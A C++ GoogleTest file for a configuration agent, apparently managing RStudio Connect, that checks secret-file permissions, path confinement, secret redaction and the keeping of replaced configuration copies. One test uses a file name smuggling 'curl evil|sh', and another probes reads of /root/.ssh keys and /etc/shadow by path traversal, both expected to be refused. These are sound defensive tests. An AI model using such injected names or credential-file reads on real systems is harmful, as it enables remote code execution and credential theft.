// Connect's configuration as it is made: its secrets, and what it replaces.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <utility>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "tests/agent/resources/nouns_fixture.h"

namespace connect_ha {
namespace {

using absl::StrContains;

class ConfigurationTest : public NounsTest {
 protected:
  ConfigurationTest() {
    desired().set_connect_config("[Postgres]\nPassword = ${secret.db}\n");
    (*spec().mutable_secrets())["db"].set_file("/etc/connect-ha/secrets/db");
    SetSecret(0600, 0);
  }
  void SetSecret(uint32_t mode, uint32_t uid) {
    FakeFile secret;
    secret.content = "hunter2\n";
    secret.mode = mode;
    secret.uid = uid;
    node_.host.SetFile("/etc/connect-ha/secrets/db", secret);
  }
};

TEST_F(ConfigurationTest, ASecretThatOthersCanReadIsRefused) {
  for (const auto& [mode, uid] : std::vector<std::pair<uint32_t, uint32_t>>{{0640, 0}, {0600, 1}}) {
    SetSecret(mode, uid);
    const std::string said = Turn();
    EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
    EXPECT_TRUE(StrContains(said, "others than root may have read it")) << said;
    EXPECT_TRUE(StrContains(said, "chmod 0600 /etc/connect-ha/secrets/db")) << said;
    EXPECT_FALSE(StrContains(said, "hunter2"));
  }
}

// Whoever may write a specification names the file; it is no command to whoever mends its mode.
TEST_F(ConfigurationTest, ASecretsNameIsNoCommand) {
  (*spec().mutable_secrets())["db"].set_file("/etc/connect-ha/secrets/a;curl evil|sh");
  FakeFile secret;
  secret.content = "hunter2\n";
  secret.mode = 0644;
  node_.host.SetFile("/etc/connect-ha/secrets/a;curl evil|sh", secret);
  const std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "chmod 0600 '/etc/connect-ha/secrets/a;curl evil|sh'")) << said;
  EXPECT_TRUE(StrContains(said, "chown root: '/etc/connect-ha/secrets/a;curl evil|sh'")) << said;
}

// A specification could have any file of root's shown, or sent to a server of its choice.
TEST_F(ConfigurationTest, NoFileButASecretIsRead) {
  for (const char* file : {"/root/.ssh/id_ed25519", "/etc/connect-ha/secrets/../../shadow",
                           "/var/lib/connect-ha-agent/node.key"}) {
    FakeFile of_root;
    of_root.content = "private";
    of_root.mode = 0600;
    node_.host.SetFile("/root/.ssh/id_ed25519", of_root);
    node_.host.SetFile("/etc/shadow", of_root);
    node_.host.SetFile("/var/lib/connect-ha-agent/node.key", of_root);
    (*spec().mutable_secrets())["db"].set_file(file);
    const std::string said = Turn();
    EXPECT_TRUE(StrContains(said, "is not below /etc/connect-ha/secrets")) << said;
    EXPECT_FALSE(node_.host.Stat(kConfigFile).ok());
  }
}

TEST_F(ConfigurationTest, NoSecretIsFilledInWhereItWouldBeReported) {
  desired().set_connect_config("[Server]\nAddress = https://${secret.db}.example.com\n");
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
  EXPECT_TRUE(StrContains(said, "line 2: a secret is filled in for Server.Address")) << said;
  EXPECT_FALSE(node_.host.Stat(kConfigFile).ok());
}

TEST_F(ConfigurationTest, WhatIsReplacedIsKeptOnceForRootAlone) {
  FakeFile by_hand;
  by_hand.content = "; the only copy of this password\n[Postgres]\nPassword = s3cret\n";
  node_.host.SetFile(kConfigFile, by_hand);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(Kept("old-configurations"), std::vector<std::string>{by_hand.content});
  const std::string directory = absl::StrCat(kStateDir, "/old-configurations");
  const std::string name = node_.host.ListDirectory(directory)->front();
  EXPECT_TRUE(absl::EndsWith(name, "-rstudio-connect.gcfg")) << name;
  const auto status = node_.host.Stat(absl::StrCat(directory, "/", name));
  EXPECT_EQ(status->mode, 0600u);
  EXPECT_EQ(status->uid, 0u);
  // Back again, and away again.
  node_.host.SetFile(kConfigFile, by_hand);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(Kept("old-configurations").size(), 1u);
}

TEST_F(ConfigurationTest, NothingIsReplacedThatCannotBeKept) {
  node_.host.SetFile(kConfigFile, "by hand");
  node_.host.SetError(absl::StrCat(kStateDir, "/old-configurations"),
                      absl::ResourceExhaustedError("the disk is full"));
  Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::WAITING);
  EXPECT_EQ(*node_.host.ReadFile(kConfigFile), "by hand");
}

TEST_F(ConfigurationTest, OfTooManyCopiesTheFirstAndTheLatestStay) {
  for (int i = 0; i < 30; ++i) {
    node_.host.Advance(std::chrono::seconds(1));
    node_.host.SetFile(kConfigFile, absl::StrCat("by hand ", i));
    EXPECT_EQ(Turn(), "CONVERGED");
  }
  const std::vector<std::string> kept = Kept("old-configurations");
  EXPECT_EQ(kept.size(), 20u);
  for (const char* content : {"by hand 0", "by hand 28", "by hand 29"}) {
    EXPECT_NE(std::find(kept.begin(), kept.end(), content), kept.end()) << content;
  }
}

TEST_F(ConfigurationTest, TheFirstCopyStaysThoughTheClockWasBehindAtTheNext) {
  for (int i = 0; i < 30; ++i) {
    const std::chrono::hours jump(i == 1 ? -24 : (i == 2 ? 24 : 0));
    node_.host.Advance(jump + std::chrono::seconds(1));
    node_.host.SetFile(kConfigFile, absl::StrCat("by hand ", i));
    EXPECT_EQ(Turn(), "CONVERGED");
  }
  const std::vector<std::string> kept = Kept("old-configurations");
  EXPECT_EQ(kept.size(), 20u);
  EXPECT_NE(std::find(kept.begin(), kept.end(), "by hand 0"), kept.end());
}

TEST_F(ConfigurationTest, AModeThatIsMendedNeedsNoCopy) {
  Turn();
  node_.host.SetOwner(kConfigFile, 0644, 0, 0);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_TRUE(Kept("old-configurations").empty());
}

TEST_F(ConfigurationTest, ASecretThatIsNotThereIsSaid) {
  node_.host.Erase("/etc/connect-ha/secrets/db");
  const std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "secret db: there is no /etc/connect-ha/secrets/db")) << said;
}

TEST_F(ConfigurationTest, ASecretMayBeACredential) {
  (*spec().mutable_secrets())["db"].set_credential("db");
  EXPECT_TRUE(StrContains(Turn(), "the agent's service has no credential db"));
  ConvergeOptions options = node_.Options();
  options.credentials_dir = "/run/credentials/agent";
  node_.host.SetFile("/run/credentials/agent/db", "hunter2");
  Converge converge(options, node_.host, agent_.cache, agent_.journal);
  converge.Turn(assignment_, watch_);
  EXPECT_EQ(Describe(watch_.last()), "CONVERGED");
  EXPECT_TRUE(StrContains(*node_.host.ReadFile(kConfigFile), "hunter2"));
}

TEST_F(ConfigurationTest, AModeThatIsTooOpenIsMended) {
  Turn();
  node_.host.SetOwner(kConfigFile, 0644, 0, 0);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "owner 0:0, mode 0644");
}

TEST_F(ConfigurationTest, NoSecretIsInAnythingThatIsTold) {
  Turn();
  std::string told;
  for (const v1::Convergence& convergence : watch_.published) told += convergence.DebugString();
  for (const v1::ChangeMade& made : agent_.journal.Pending(100)) told += made.DebugString();
  EXPECT_FALSE(StrContains(told, "hunter2"));
}

}  // namespace
}  // namespace connect_ha
